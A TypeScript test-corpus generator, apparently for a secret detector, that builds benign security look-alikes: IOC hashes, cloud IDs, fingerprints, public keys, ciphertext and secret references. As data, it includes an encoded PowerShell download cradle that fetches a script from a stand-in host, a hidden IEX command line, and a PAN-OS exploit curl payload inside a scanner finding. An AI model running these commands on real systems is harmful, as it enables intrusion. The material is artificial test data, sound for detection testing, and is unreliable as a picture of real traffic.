// Benign look-alikes from the same security-engineering contexts: IOC hashes, commit SHAs,
// digests, tenant/device/detection ids, fingerprints, public keys and certificates, encrypted
// blobs, secret-store references, placeholders and masks. No value sits in a slot whose name
// says it is a secret unless the text itself is plainly a reference, a mask or ciphertext.
import type { CorpusCase } from "../types.ts";
import { F, Gen, anth, anthTool, b64, gem, hc, j, mcpResult, oai, oaiTool, renderSet, type Spec } from "./_gen.ts";

const colon = (g: Gen, n: number): string => Array.from({ length: n }, () => g.hex(2).toUpperCase()).join(":");

const specs: Spec[] = [
  { p: "IOC sample SHA-256", g: "keys", env: "IOC_SHA256", v: (g) => g.hex(64) },
  { p: "IOC sample MD5", g: "keys", env: "IOC_MD5", v: (g) => g.hex(32) },
  { p: "IOC sample SHA-1", g: "keys", env: "IOC_SHA1", v: (g) => g.hex(40) },
  { p: "detections repo commit SHA", g: "keys", env: "RULES_COMMIT_SHA", v: (g) => g.hex(40) },
  { p: "sensor container image digest", g: "keys", env: "SENSOR_IMAGE_DIGEST", v: (g) => `sha256:${g.hex(64)}` },
  { p: "Azure tenant id", g: "keys", env: "AZURE_TENANT_ID", v: (g) => g.uuid() },
  { p: "Azure subscription id", g: "keys", env: "AZURE_SUBSCRIPTION_ID", v: (g) => g.uuid() },
  { p: "Microsoft Sentinel workspace id", g: "keys", env: "SENTINEL_WORKSPACE_ID", v: (g) => g.uuid() },
  { p: "Entra ID application (client) id", g: "keys", env: "ENTRA_APP_CLIENT_ID", v: (g) => g.uuid() },
  { p: "Okta application id", g: "keys", env: "OKTA_APP_ID", v: (g) => j("0oa", g.an(17)) },
  { p: "Okta group id", g: "keys", env: "OKTA_SOC_GROUP_ID", v: (g) => j("00g", g.an(17)) },
  { p: "CrowdStrike device AID", g: "keys", env: "FALCON_DEVICE_AID", v: (g) => g.hex(32) },
  { p: "Defender for Endpoint machine id", g: "keys", env: "MDE_MACHINE_ID", v: (g) => g.hex(40) },
  { p: "Cloudflare zone id", g: "keys", env: "CLOUDFLARE_ZONE_ID", v: (g) => g.hex(32) },
  { p: "Cloudflare account id", g: "keys", env: "CLOUDFLARE_ACCOUNT_ID", v: (g) => g.hex(32) },
  { p: "AWS account id", g: "keys", env: "AWS_ACCOUNT_ID", v: (g) => g.dig(12) },
  { p: "KMS key ARN for the audit bucket", g: "keys", env: "AUDIT_BUCKET_KMS_ARN", v: (g) => `arn:aws:kms:eu-west-1:${g.dig(12)}:key/${g.uuid()}` },
  { p: "GuardDuty detector id", g: "keys", env: "GUARDDUTY_DETECTOR_ID", v: (g) => g.hex(32) },
  { p: "Security Hub finding ARN", g: "keys", env: "SECURITYHUB_FINDING_ARN", v: (g) => `arn:aws:securityhub:eu-west-1:${g.dig(12)}:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/${g.uuid()}` },
  { p: "OpenTelemetry trace id", g: "keys", env: "OTEL_TRACE_ID", v: (g) => g.hex(32) },
  { p: "Sigma rule id", g: "keys", env: "SIGMA_RULE_ID", v: (g) => g.uuid() },
  { p: "YARA ruleset SHA-256", g: "keys", env: "YARA_RULESET_SHA256", v: (g) => g.hex(64) },
  { p: "release GPG key fingerprint", g: "keys", env: "RELEASE_GPG_FINGERPRINT", v: (g) => g.uhex(40) },
  { p: "bastion SSH host key fingerprint", g: "keys", env: "BASTION_HOST_FINGERPRINT", v: (g) => `SHA256:${g.b64(43)}` },
  { p: "TLS certificate SHA-256 fingerprint", g: "keys", env: "SIEM_CERT_SHA256_FINGERPRINT", v: (g) => colon(g, 32) },
  { p: "TLS certificate serial number", g: "keys", env: "SIEM_CERT_SERIAL", v: (g) => colon(g, 16) },
  { p: "JA3 fingerprint (C2 profile)", g: "keys", env: "C2_JA3_HASH", v: (g) => g.hex(32) },
  { p: "JA4 fingerprint", g: "keys", env: "C2_JA4", v: (g) => `t13d1516h2_${g.hex(12)}_${g.hex(12)}` },
  { p: "WireGuard peer public key", g: "keys", env: "WG_PEER_PUBLIC_KEY", v: (g) => g.raw64(32) },
  { p: "age recipient (public key)", g: "keys", env: "SOPS_AGE_RECIPIENTS", v: (g) => `age1${g.bech(58)}` },
  { p: "Tailscale node public key", g: "keys", env: "TS_NODE_PUBKEY", v: (g) => `nodekey:${g.hex(64)}` },
  { p: "CI signer SSH public key", g: "keys", env: "CI_SIGNER_SSH_PUBKEY", v: (g) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${g.b64(43)} ci-signer@build` },
  { p: "agent package integrity hash", g: "keys", env: "AGENT_PKG_INTEGRITY", v: (g) => `sha512-${g.b64(86)}==` },
  { p: "Rekor transparency log entry UUID", g: "keys", env: "REKOR_ENTRY_UUID", v: (g) => `24296fb24b8ad77a${g.hex(64)}` },
  { p: "Git LFS object id", g: "keys", env: "PCAP_LFS_OID", v: (g) => `sha256:${g.hex(64)}` },
  { p: "HackerOne report id", g: "keys", env: "H1_REPORT_ID", v: (g) => g.dig(7) },
  { p: "Bugcrowd submission id", g: "keys", env: "BUGCROWD_SUBMISSION_ID", v: (g) => g.uuid() },
  { p: "VirusTotal analysis id", g: "keys", env: "VT_ANALYSIS_ID", v: (g) => b64(`${g.hex(32)}:${g.epoch()}`).replace(/=+$/, "") + "==" },
  { p: "urlscan.io result UUID", g: "keys", env: "URLSCAN_RESULT_UUID", v: (g) => g.uuid() },
  { p: "MISP event UUID", g: "keys", env: "MISP_EVENT_UUID", v: (g) => g.uuid() },
  { p: "OpenCTI indicator id", g: "keys", env: "OPENCTI_INDICATOR_ID", v: (g) => `indicator--${g.uuid()}` },
  { p: "Stripe disputed charge id", g: "keys", env: "DISPUTED_CHARGE_ID", v: (g) => j("ch_", "3", g.an(23)) },
  { p: "Slack SOC channel id", g: "keys", env: "SLACK_SOC_CHANNEL_ID", v: (g) => j("C0", g.up(9)) },
  { p: "GitHub App id and installation id", g: "keys", env: "GITHUB_APP_INSTALLATION_ID", v: (g) => g.dig(8) },
  { p: "Sentry event id", g: "keys", env: "SENTRY_EVENT_ID", v: (g) => g.hex(32) },
  { p: "Splunk scheduled search SID", g: "keys", env: "SPLUNK_SEARCH_SID", v: (g) => `scheduler__admin__search__RMD5${g.hex(18)}_at_${g.epoch()}_${g.dig(4)}` },
  { p: "CrowdStrike detection id", g: "keys", env: "FALCON_DETECTION_ID", v: (g) => `ldt:${g.hex(32)}:${g.dig(11)}` },
  { p: "SentinelOne threat id", g: "keys", env: "S1_THREAT_ID", v: (g) => g.dig(19) },
  { p: "PagerDuty service id", g: "keys", env: "PAGERDUTY_SERVICE_ID", v: (g) => j("P", g.up(6)) },
  { p: "OpenAI chat completion id", g: "keys", env: "LAST_COMPLETION_ID", v: (g) => j("chatcmpl-", g.an(29)) },
  { p: "Anthropic message id", g: "keys", env: "LAST_MESSAGE_ID", v: (g) => j("msg_01", g.an(22)) },
  { p: "CloudFront distribution id", g: "keys", env: "CLOUDFRONT_DISTRIBUTION_ID", v: (g) => j("E", g.up(13)) },
  { p: "CycloneDX SBOM serial number", g: "keys", env: "SBOM_SERIAL_NUMBER", v: (g) => `urn:uuid:${g.uuid()}` },
  { p: "CSP script hash", g: "keys", env: "CSP_INLINE_SCRIPT_HASH", v: (g) => `sha256-${g.b64(43)}=` },
  { p: "Keycloak realm public key", g: "keys", env: "KEYCLOAK_REALM_PUBLIC_KEY", v: (g) => `MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA${g.b64(342)}IDAQAB` },
  { p: "threat feed ETag", g: "keys", env: "RULES_FEED_ETAG", v: (g) => `W/"${g.hex(32)}"` },
  { p: "Entra certificate thumbprint", g: "keys", env: "ENTRA_CERT_THUMBPRINT", v: (g) => g.uhex(40) },
  { p: "GCP service account unique id", g: "keys", env: "GCP_SA_UNIQUE_ID", v: (g) => g.dig(21) },
];

const cases: CorpusCase[] = renderSet(specs, { seed: 138_004, short: "b", start: 5, benign: true });

// ---------------------------------------------------------------- handcrafted benign
const g = new Gen(138_005);
let n = 0;
const add = (note: string, text: string) => cases.push(hc(`y138-bk-${String(++n).padStart(3, "0")}`, "benign", note, text));
const wrap = (s: string, w = 64): string => (s.match(new RegExp(`.{1,${w}}`, "g")) ?? []).join("\n");
const cert = (): string => ["-----BEGIN CERTIFICATE-----", wrap("MIIDdzCCAl+gAwIBAgIU" + g.b64(1150) + "=="), "-----END CERTIFICATE-----"].join("\n");

// 1 YARA rule
add("YARA rule with hex strings and sample hashes in meta; context: OpenAI chat body", oai(g, `Можешь ужесточить это YARA-правило? Оно срабатывает на слишком многих установщиках.\n\n${F}yara\nrule APT_Loader_Jan25 {\n  meta:\n    author = "detections@acme"\n    date = "2025-01-14"\n    hash1 = "${g.hex(64)}"\n    hash2 = "${g.hex(64)}"\n  strings:\n    $mz = { 4D 5A 90 00 03 00 00 00 }\n    $s1 = { ${Array.from({ length: 16 }, () => g.uhex(2)).join(" ")} }\n    $x1 = "${g.hex(32)}" ascii\n  condition:\n    $mz at 0 and filesize < 800KB and all of ($s*) and $x1\n}\n${F}`));

// 2 Suricata rules
add("Suricata rules with content matches, sids and metadata; context: Anthropic tool_use write_file", anthTool(g, "Add local rules for the new C2 domain.", "write_file", { path: "rules/local.rules", content: `alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"LOCAL C2 TLS SNI update-check"; tls.sni; content:"update-check.example.org"; ja3.hash; content:"${g.hex(32)}"; sid:9000${g.dig(3)}; rev:2; metadata:created_at 2025_01_14;)\nalert http $HOME_NET any -> $EXTERNAL_NET any (msg:"LOCAL beacon URI"; http.uri; content:"/api/${g.hex(16)}"; content:"|${Array.from({ length: 8 }, () => g.uhex(2)).join(" ")}|"; sid:9000${g.dig(3)}; rev:1;)\n` }, "ok"));

// 3 Sigma rule
add("Sigma rule (id, references, hash selection); context: Gemini request", gem(g, `Convert this Sigma rule to KQL:\n\n${F}yaml\ntitle: Known Loader Hashes\nid: ${g.uuid()}\nstatus: experimental\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Hashes|contains:\n      - 'SHA256=${g.uhex(64)}'\n      - 'MD5=${g.uhex(32)}'\n      - 'IMPHASH=${g.uhex(32)}'\n  condition: selection\nlevel: high\n${F}`));

// 4 STIX bundle
add("STIX 2.1 bundle with file-hash indicators; context: MCP result", mcpResult(g, JSON.stringify({ type: "bundle", id: `bundle--${g.uuid()}`, objects: [{ type: "indicator", spec_version: "2.1", id: `indicator--${g.uuid()}`, created: g.ts(), modified: g.ts(), pattern: `[file:hashes.'SHA-256' = '${g.hex(64)}']`, pattern_type: "stix", valid_from: g.ts() }, { type: "indicator", spec_version: "2.1", id: `indicator--${g.uuid()}`, created: g.ts(), modified: g.ts(), pattern: `[file:hashes.MD5 = '${g.hex(32)}']`, pattern_type: "stix", valid_from: g.ts() }] }, null, 2)));

// 5 MISP event body
add("MISP event add body with md5/sha1/sha256/ja3 attributes; context: HTTP POST body", JSON.stringify({ Event: { info: "Phishing wave - invoice lure", distribution: 1, threat_level_id: 2, analysis: 1, Attribute: [{ type: "md5", category: "Payload delivery", value: g.hex(32), to_ids: true }, { type: "sha1", category: "Payload delivery", value: g.hex(40), to_ids: true }, { type: "sha256", category: "Payload delivery", value: g.hex(64), to_ids: true }, { type: "ja3-fingerprint-md5", category: "Network activity", value: g.hex(32), to_ids: false }, { type: "domain", category: "Network activity", value: "invoice-portal.example.net", to_ids: true }] } }));

// 6 CrowdStrike detection summary
add("CrowdStrike detection summary (aid, detection id, hashes); context: MCP result", mcpResult(g, JSON.stringify({ resources: [{ detection_id: `ldt:${g.hex(32)}:${g.dig(11)}`, device: { device_id: g.hex(32), hostname: "FIN-LT-0231", platform_name: "Windows", local_ip: g.ip() }, behaviors: [{ tactic: "Execution", technique: "PowerShell", sha256: g.hex(64), md5: g.hex(32), cmdline: "powershell.exe -nop -w hidden -c IEX(...)", parent_details: { parent_sha256: g.hex(64), parent_md5: g.hex(32) } }], max_severity_displayname: "High", status: "new" }] }, null, 2)));

// 7 Defender alert in a Jira ticket
add("Defender for Endpoint alert in a Jira ticket (machine id, alert id, SHA1); context: Jira create issue", JSON.stringify({ fields: { project: { key: "SOC" }, issuetype: { name: "Incident" }, summary: "Suspicious LSASS access on SRV-APP-12", description: `Alert: da${g.dig(18)}_${g.dig(10)}\nMachineId: ${g.hex(40)}\nFile SHA1: ${g.hex(40)}\nFile SHA256: ${g.hex(64)}\nFirst activity: ${g.ts()}\n\nAnalyst note: isolated host, collecting investigation package.` } }));

// 8 authorized_keys / known_hosts diff
add("authorized_keys and known_hosts diff (public keys only); context: chat body", anth(g, `Review before I push to the bastion role:\n\n${F}diff\n--- a/roles/bastion/files/authorized_keys\n+++ b/roles/bastion/files/authorized_keys\n@@ -1,2 +1,3 @@\n ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${g.b64(43)} alice@soc\n+ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${g.b64(43)} bob@soc\n+cert-authority,principals="ir" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${g.b64(43)} user-ca\n--- a/roles/bastion/files/known_hosts\n+++ b/roles/bastion/files/known_hosts\n+bastion.soc.test ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB${g.b64(86)}=\n${F}`));

// 9 openssl s_client cert chain
add("openssl s_client output with PEM certificates; context: OpenAI tool result", oaiTool(g, "Check which chain the SIEM endpoint serves.", "run_shell", { command: "openssl s_client -connect siem.example.net:443 -showcerts </dev/null" }, `CONNECTED(00000003)\ndepth=1 C = US, O = Acme, CN = Acme Issuing CA 2\nverify return:1\n---\nCertificate chain\n 0 s:CN = siem.example.net\n   i:C = US, O = Acme, CN = Acme Issuing CA 2\n${cert()}\n 1 s:C = US, O = Acme, CN = Acme Issuing CA 2\n${cert()}\n---\nSSL-Session:\n    Protocol  : TLSv1.3\n    Session-ID: ${g.uhex(64)}\n`));

// 10 PGP public key
add("PGP public key block for security.txt; context: Anthropic tool_use write_file", anthTool(g, "Publish our PGP key next to security.txt.", "write_file", { path: "public/.well-known/pgp-key.txt", content: ["-----BEGIN PGP PUBLIC KEY BLOCK-----", "", wrap("mQINBGY" + g.b64(1100)), "=" + g.b64(4), "-----END PGP PUBLIC KEY BLOCK-----", ""].join("\n") }, "ok"));

// 11 JWKS
add("JWKS document (public RSA keys: n, e, kid); context: MCP result", mcpResult(g, JSON.stringify({ keys: [{ kty: "RSA", use: "sig", kid: g.b64u(43), alg: "RS256", n: g.b64u(342), e: "AQAB" }, { kty: "RSA", use: "sig", kid: g.b64u(43), alg: "RS256", n: g.b64u(342), e: "AQAB", x5t: g.b64u(27) }] })));

// 12 wg show
add("`wg show` output (private key hidden, peers' public keys); context: OpenAI tool result", oaiTool(g, "Is the responder tunnel up?", "run_shell", { command: "sudo wg show wg0" }, `interface: wg0\n  public key: ${g.raw64(32)}\n  private key: (hidden)\n  listening port: 51820\n\npeer: ${g.raw64(32)}\n  endpoint: ${g.pubip()}:51820\n  allowed ips: 10.99.0.2/32\n  latest handshake: 42 seconds ago\n  transfer: 1.21 MiB received, 3.40 MiB sent`));

// 13 tailscale status JSON
add("tailscale status --json (node and machine public keys); context: MCP result", mcpResult(g, JSON.stringify({ Version: "1.78.1", BackendState: "Running", Self: { ID: g.an(17), PublicKey: `nodekey:${g.hex(64)}`, HostName: "ir-jump-01", TailscaleIPs: ["100.101.7.12"] }, Peer: { [`nodekey:${g.hex(64)}`]: { ID: g.an(17), PublicKey: `nodekey:${g.hex(64)}`, HostName: "siem-01", Online: true } } }, null, 2)));

// 14 SOPS file
{
  const enc = (n: number) => `ENC[AES256_GCM,data:${g.b64(n)}=,iv:${g.b64(43)}=,tag:${g.b64(22)}==,type:str]`;
  add("SOPS-encrypted secrets file (ciphertext values, age recipient); context: Anthropic body", anth(g, `sops -d 报错 "no key could decrypt the data key"，文件如下：\n\n${F}yaml\nfalcon:\n    client_id: ${enc(44)}\n    client_secret: ${enc(56)}\nsops:\n    age:\n        - recipient: age1${g.bech(58)}\n          enc: |\n            -----BEGIN AGE ENCRYPTED FILE-----\n            ${wrap(g.b64(300), 64).split("\n").join("\n            ")}\n            -----END AGE ENCRYPTED FILE-----\n    lastmodified: "${g.ts()}"\n    mac: ${enc(60)}\n    version: 3.9.2\n${F}`));
}

// 15 Ansible Vault
add("Ansible Vault encrypted variable; context: chat body", oai(g, `Is the indentation right for this vaulted var?\n\n${F}yaml\nwazuh_api_password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  ${wrap(g.hex(480), 80).split("\n").join("\n  ")}\n${F}`));

// 16 SealedSecret
add("Bitnami SealedSecret (encryptedData ciphertext); context: OpenAI tool_calls kubectl apply", oaiTool(g, "Apply the sealed secret for the forwarder.", "run_shell", { command: `kubectl apply -f - <<'EOF'\napiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: splunk-hec\n  namespace: logging\nspec:\n  encryptedData:\n    token: AgB${g.b64(680)}==\nEOF` }, "sealedsecret.bitnami.com/splunk-hec created"));

// 17 Vault transit ciphertext
add("Vault transit encrypt output (vault:v1 ciphertext); context: Anthropic tool_result", anthTool(g, "Encrypt the analyst note with the transit key before storing it.", "bash", { command: "vault write transit/encrypt/case-notes plaintext=$(base64 <<< 'host isolated at 14:02')" }, `Key            Value\n---            -----\nciphertext     vault:v1:${g.b64(64)}==\nkey_version    1`));

// 18 KMS encrypt output
add("AWS KMS encrypt output (CiphertextBlob); context: MCP result", mcpResult(g, JSON.stringify({ CiphertextBlob: `AQICAHh${g.b64(250)}==`, KeyId: `arn:aws:kms:eu-west-1:${g.dig(12)}:key/${g.uuid()}`, EncryptionAlgorithm: "SYMMETRIC_DEFAULT" }, null, 2)));

// 19 op item get without reveal
add("1Password item without --reveal (concealed field shows the reveal hint); context: OpenAI tool result", oaiTool(g, "Which vault holds the Okta API item?", "run_shell", { command: 'op item get "Okta API token"' }, `ID:          ${g.lo(26)}\nTitle:       Okta API token\nVault:       SOC (${g.lo(26)})\nCreated:     8 months ago\nUpdated:     2 weeks ago by Dana\nCategory:    API_CREDENTIAL\nFields:\n  username:      svc-okta-automation\n  credential:    [use 'op item get ${g.lo(26)} --reveal' to reveal]\n  hostname:      acme.okta.example.com`));

// 20 GitHub Actions with secrets references
add("GitHub Actions workflow using ${{ secrets.* }} references; context: chat body", anth(g, `Why is the hunt job skipped on forks?\n\n${F}yaml\njobs:\n  hunt:\n    if: github.repository == 'acme/detections'\n    runs-on: ubuntu-latest\n    env:\n      FALCON_CLIENT_ID: \${{ vars.FALCON_CLIENT_ID }}\n      FALCON_CLIENT_SECRET: \${{ secrets.FALCON_CLIENT_SECRET }}\n      VT_API_KEY: \${{ secrets.VT_API_KEY }}\n    steps:\n      - uses: actions/checkout@${g.hex(40)} # v4.2.2\n      - run: python hunts/run_all.py\n${F}`));

// 21 ExternalSecret
add("External Secrets Operator manifest (remoteRef keys only); context: Anthropic tool_use write_file", anthTool(g, "Wire the SOAR secrets from AWS Secrets Manager.", "write_file", { path: "k8s/soar/externalsecret.yaml", content: "apiVersion: external-secrets.io/v1beta1\nkind: ExternalSecret\nmetadata:\n  name: soar-credentials\nspec:\n  refreshInterval: 1h\n  secretStoreRef: { name: aws-secrets-manager, kind: ClusterSecretStore }\n  target: { name: soar-credentials }\n  data:\n    - secretKey: api_token\n      remoteRef: { key: soc/soar/api_token }\n    - secretKey: webhook_secret\n      remoteRef: { key: soc/soar/webhook_secret, property: value }\n" }, "ok"));

// 22 Terraform refs
add("Terraform reading secrets from Secrets Manager / variables (no literal values); context: OpenAI chat body", oai(g, `Is it OK that this shows up in plan output?\n\n${F}hcl\ndata "aws_secretsmanager_secret_version" "sumo" {\n  secret_id = "soc/sumo/access_key"\n}\n\nprovider "sumologic" {\n  access_id  = var.sumo_access_id\n  access_key = jsondecode(data.aws_secretsmanager_secret_version.sumo.secret_string)["access_key"]\n  environment = "eu"\n}\n\nvariable "sumo_access_id" {\n  type      = string\n  sensitive = true\n}\n${F}`));

// 23 Key Vault references
add("Azure App Service settings with Key Vault references; context: MCP result", mcpResult(g, JSON.stringify([{ name: "SENTINEL_WORKSPACE_ID", value: g.uuid(), slotSetting: false }, { name: "SENTINEL_SHARED_KEY", value: "@Microsoft.KeyVault(SecretUri=https://kv-soc-prod.vault.azure.net/secrets/sentinel-shared-key/)", slotSetting: false }, { name: "GRAPH_CLIENT_SECRET", value: "@Microsoft.KeyVault(VaultName=kv-soc-prod;SecretName=graph-client-secret)", slotSetting: false }], null, 2)));

// 24 op:// references
add(".env with 1Password secret references (op://); context: Anthropic body", anth(g, `op run 이 이 값들을 치환하지 않아요. 뭘 놓친 걸까요?\n\n${F}env\nOKTA_ORG_URL=https://acme.okta.example.com\nOKTA_API_TOKEN=op://SOC/Okta API token/credential\nS1_API_TOKEN=op://SOC/SentinelOne API (prod)/credential\nSPLUNK_HEC_TOKEN=op://SOC/Splunk HEC/token\n${F}`));

// 25 .env.example placeholders
add(".env.example with placeholders; context: tool_use write_file", anthTool(g, "Create an .env.example for the enrichment service.", "write_file", { path: ".env.example", content: "# copy to .env and fill in from the vault\nVT_API_KEY=<your-virustotal-api-key>\nSHODAN_API_KEY=\nGREYNOISE_API_KEY=${GREYNOISE_API_KEY}\nABUSEIPDB_API_KEY=REPLACE_ME\nMISP_URL=https://misp.example.net\nMISP_AUTH_KEY=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n" }, "ok"));

// 26 encoded PowerShell from an alert
{
  const cmd = "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example.org/a.ps1')";
  const enc = Buffer.from(cmd, "utf16le").toString("base64");
  add("EDR alert command line with -EncodedCommand (base64 UTF-16LE download cradle); context: OpenAI chat body", oai(g, `Zdekoduj i wyjaśnij tę linię poleceń z alertu:\n\n${F}\npowershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ${enc}\n${F}\nParent: WINWORD.EXE (SHA256 ${g.hex(64)})`));
}

// 27 PE header base64 in malware triage
add("malware triage: base64 of a PE header sample and hashes; context: Gemini request", gem(g, `First bytes of the dropped file (base64), plus hashes. Is this UPX packed?\n\n${F}\n${b64(Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8]), Buffer.alloc(43), Buffer.from([0x80, 0, 0, 0]), Buffer.from("This program cannot be run in DOS mode."), Buffer.from(g.bytes(60))]))}\n${F}\nsha256 ${g.hex(64)}\nimphash ${g.hex(32)}\nssdeep 3072:${g.b64(40)}:${g.b64(30)}`));

// 28 webhook delivery headers
add("GitHub webhook delivery headers (HMAC signature of the payload, delivery GUID); context: raw HTTP request", `POST /hooks/github HTTP/1.1\r\nHost: soar.soc.test\r\nUser-Agent: GitHub-Hookshot/${g.hex(7)}\r\nX-GitHub-Event: secret_scanning_alert\r\nX-GitHub-Delivery: ${g.uuid()}\r\nX-GitHub-Hook-ID: ${g.dig(9)}\r\nX-Hub-Signature: sha1=${g.hex(40)}\r\nX-Hub-Signature-256: sha256=${g.hex(64)}\r\nContent-Type: application/json\r\n\r\n{"action":"created","alert":{"number":${g.range(1, 300)},"secret_type":"slack_incoming_webhook_url","state":"open"}}`);

// 29 OAuth authorize URL with PKCE
add("OIDC authorize URL (client_id, state, nonce, PKCE code_challenge); context: MCP fetch call", JSON.stringify({ jsonrpc: "2.0", id: 12, method: "tools/call", params: { name: "open_url", arguments: { url: `https://login.example.com/oauth2/v1/authorize?client_id=0oa${g.an(17)}&response_type=code&scope=openid%20profile&redirect_uri=https%3A%2F%2Fsoc.example.net%2Fcallback&state=${g.b64u(32)}&nonce=${g.b64u(32)}&code_challenge=${g.b64u(43)}&code_challenge_method=S256` } } }));

// 30 cosign verify output
add("cosign verify output (signature bundle, Rekor UUID, digests); context: Anthropic tool_result", anthTool(g, "Verify the sensor image signature.", "bash", { command: "cosign verify --key cosign.pub registry.example.com/secops/sensor:2.4.1 | jq ." }, JSON.stringify([{ critical: { identity: { "docker-reference": "registry.example.com/secops/sensor" }, image: { "docker-manifest-digest": `sha256:${g.hex(64)}` }, type: "cosign container image signature" }, optional: { Bundle: { SignedEntryTimestamp: g.b64(94) + "==", Payload: { body: g.b64(200) + "=", integratedTime: g.epoch(), logIndex: g.range(1e8, 2e8), logID: g.hex(64) } } } }], null, 2)));

// 31 Trivy JSON
add("Trivy image scan JSON (digests, CVEs); context: GitHub contents API PUT", JSON.stringify({ message: "chore(scan): nightly trivy report", content: b64(JSON.stringify({ SchemaVersion: 2, ArtifactName: "registry.example.com/secops/sensor:2.4.1", Metadata: { ImageID: `sha256:${g.hex(64)}`, RepoDigests: [`registry.example.com/secops/sensor@sha256:${g.hex(64)}`] }, Results: [{ Target: "usr/lib/libssl.so.3", Vulnerabilities: [{ VulnerabilityID: "CVE-2024-5535", PkgName: "openssl", InstalledVersion: "3.0.13", FixedVersion: "3.0.14", Severity: "MEDIUM" }] }] }, null, 2)), branch: "scan-reports" }));

// 32 package-lock integrity
add("package-lock.json integrity hashes; context: chat body", oai(g, `npm ci fails with EINTEGRITY on these, which one is wrong?\n\n${F}json\n"node_modules/@acme/sigma-tools": {\n  "version": "1.4.0",\n  "resolved": "https://registry.npmjs.org/@acme/sigma-tools/-/sigma-tools-1.4.0.tgz",\n  "integrity": "sha512-${g.b64(86)}=="\n},\n"node_modules/yaml": {\n  "version": "2.6.1",\n  "integrity": "sha512-${g.b64(86)}=="\n}\n${F}`));

// 33 git log + LFS pointer
add("git log of the detections repo and a Git LFS pointer; context: MCP result", mcpResult(g, `$ git log --oneline -4 && cat samples/beacon.pcap\n${g.hex(7)} tune: lower FP on certutil rule\n${g.hex(7)} add: suricata rule for update-check C2\n${g.hex(7)} fix(sigma): logsource for sysmon 22\n${g.hex(7)} Merge pull request #${g.range(100, 999)} from acme/ja4\nversion https://git-lfs.github.com/spec/v1\noid sha256:${g.hex(64)}\nsize ${g.range(100000, 9000000)}\n`));

// 34 crt.sh results
add("certificate transparency lookup (serials, SHA-256 fingerprints); context: OpenAI tool result", oaiTool(g, "Check CT logs for lookalike certs of example.com.", "ct_search", { domain: "%.example-login.net" }, JSON.stringify([{ issuer_name: "C=US, O=Let's Encrypt, CN=R11", common_name: "secure.example-login.net", serial_number: g.hex(36), not_before: g.ts(), sha256: g.uhex(64) }, { issuer_name: "C=US, O=Google Trust Services, CN=WE1", common_name: "mail.example-login.net", serial_number: g.hex(32), not_before: g.ts(), sha256: g.uhex(64) }]))); 

// 35 Zeek ssl.log
add("Zeek ssl.log rows (uids, JA3/JA3S, cert fingerprints); context: Anthropic body", anth(g, `Any of these look like the C2 profile?\n\n${F}\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tserver_name\tja3\tja3s\tcert_chain_fps\n${g.epoch()}.${g.dig(6)}\tC${g.an(17)}\t${g.ip()}\t${g.pubip()}\tupdate-check.example.org\t${g.hex(32)}\t${g.hex(32)}\t${g.hex(64)}\n${g.epoch()}.${g.dig(6)}\tC${g.an(17)}\t${g.ip()}\t${g.pubip()}\tcdn.example.net\t${g.hex(32)}\t${g.hex(32)}\t${g.hex(64)}\n${F}`));

// 36 nuclei JSONL findings
add("nuclei JSONL findings (template ids, matched-at, no credentials); context: MCP result", mcpResult(g, [JSON.stringify({ "template-id": "CVE-2024-3400", info: { name: "PAN-OS GlobalProtect - Command Injection", severity: "critical" }, host: "https://vpn.example.net", "matched-at": "https://vpn.example.net/ssl-vpn/hipreport.esp", timestamp: g.ts(), "curl-command": "curl -X POST -H 'Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/poc.txt' https://vpn.example.net/ssl-vpn/hipreport.esp" }), JSON.stringify({ "template-id": "tls-version", info: { name: "TLS Version", severity: "info" }, host: "mail.example.net:443", "extracted-results": ["tls12", "tls13"], timestamp: g.ts() })].join("\n")));

// 37 DKIM public key + DNSKEY
add("DNS records: DKIM public key TXT and DNSSEC DNSKEY/DS; context: chat body", oai(g, `Does the DKIM record look right for the new selector?\n\n${F}\ns2025._domainkey.alerts.example.com. 3600 IN TXT "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA${g.b64(342)}IDAQAB"\nexample.com. 3600 IN DNSKEY 257 3 13 ${g.b64(86)}==\nexample.com. 3600 IN DS ${g.range(10000, 65000)} 13 2 ${g.uhex(64)}\n${F}`));

// 38 Sysmon event XML
add("Sysmon Event ID 1 XML (ProcessGuid, hashes); context: OpenAI chat body", oai(g, `Explain this process creation event:\n\n${F}xml\n<Event><System><EventID>1</EventID><Computer>FIN-LT-0231.corp.example.com</Computer></System><EventData><Data Name="ProcessGuid">{${g.uuid()}}</Data><Data Name="Image">C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.exe</Data><Data Name="Hashes">SHA1=${g.uhex(40)},MD5=${g.uhex(32)},SHA256=${g.uhex(64)},IMPHASH=${g.uhex(32)}</Data><Data Name="ParentProcessGuid">{${g.uuid()}}</Data><Data Name="LogonGuid">{${g.uuid()}}</Data></EventData></Event>\n${F}`));

// 39 Okta system log
add("Okta System Log event (actor/target ids, transaction id); context: MCP result", mcpResult(g, JSON.stringify({ uuid: g.uuid(), published: g.ts(), eventType: "user.session.start", severity: "INFO", actor: { id: j("00u", g.an(17)), type: "User", alternateId: "jdoe@acme.example.com" }, client: { ipAddress: g.pubip(), userAgent: { rawUserAgent: "Mozilla/5.0" } }, outcome: { result: "FAILURE", reason: "VERIFICATION_ERROR" }, transaction: { type: "WEB", id: g.b64u(27) }, target: [{ id: j("0oa", g.an(17)), type: "AppInstance" }] }, null, 2)));

